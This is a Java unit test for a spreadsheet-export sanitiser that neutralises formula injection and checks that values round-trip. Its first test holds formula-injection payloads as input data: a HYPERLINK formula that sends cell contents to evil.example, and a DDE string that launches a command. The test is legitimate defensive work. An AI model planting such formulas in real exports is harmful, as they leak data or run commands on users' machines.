package io.clientbase.clients;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Exported cells never run as formulas, and the import gives back exactly what was exported. */
@Tag("unit")
class SpreadsheetSafeTest {

    @Test
    void aCellThatASpreadsheetWouldRunIsWrittenAsText() {
        assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", SpreadsheetSafe.cell("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"));
        assertEquals("'+cmd|' /C calc'!A0", SpreadsheetSafe.cell("+cmd|' /C calc'!A0"));
        for (String formula : List.of("-2+3", "@SUM(A1)", "\t=1", "\r=1")) {
            assertEquals("'" + formula, SpreadsheetSafe.cell(formula));
        }
        assertEquals("ООО Ромашка", SpreadsheetSafe.cell("ООО Ромашка"));
        assertEquals("a=b", SpreadsheetSafe.cell("a=b"));
        assertEquals("'quoted'", SpreadsheetSafe.cell("'quoted'"));
    }

    @Test
    void everyValueComesBackFromItsCellUnchanged() {
        for (String value : List.of("=1+1", "+7 495 123-45-67", "-5", "@home", "'=x", "''", "'", "''=", "'quoted", "plain", "", "🌼=")) {
            assertEquals(value, SpreadsheetSafe.value(SpreadsheetSafe.cell(value)), value);
        }
    }
}
